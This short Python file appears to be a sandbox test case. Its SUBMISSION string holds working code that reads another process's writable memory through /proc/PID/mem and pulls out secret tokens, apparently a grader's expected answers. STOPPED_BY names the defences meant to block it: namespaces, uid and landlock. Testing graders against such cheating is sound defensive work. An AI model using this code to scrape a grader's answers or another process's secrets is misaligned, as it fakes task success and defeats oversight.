"""Reads another process's memory through `/proc/PID/mem`, where expected values would be."""

SUBMISSION = """
import re


def guess(x):
    pattern, found = re.compile(TARGET.prefix.encode() + rb"[0-9a-f]{16}"), []
    with open(f"/proc/{TARGET.victim}/maps") as maps, open(f"/proc/{TARGET.victim}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 16 << 20:
                memory.seek(start)
                try:
                    found += pattern.findall(memory.read(end - start))
                except OSError:
                    continue
    return b" ".join(found).decode()
"""
STOPPED_BY = ("namespaces", "uid", "landlock")
POWER = True
